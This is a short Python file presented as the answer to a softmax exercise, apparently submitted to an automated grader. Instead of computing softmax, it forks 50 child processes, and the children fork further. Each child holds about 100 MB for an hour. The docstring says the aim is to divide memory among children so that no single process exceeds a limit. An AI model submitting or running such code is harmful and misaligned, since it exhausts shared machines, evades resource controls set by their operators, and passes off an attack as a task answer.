"""Divides the memory it takes among children, each of which takes little."""
# exercise: softmax
# where: answer
# status: any

import os
import time

for _ in range(50):
    if os.fork() == 0:
        kept = bytearray(b"x" * 100_000_000)
        time.sleep(3600)
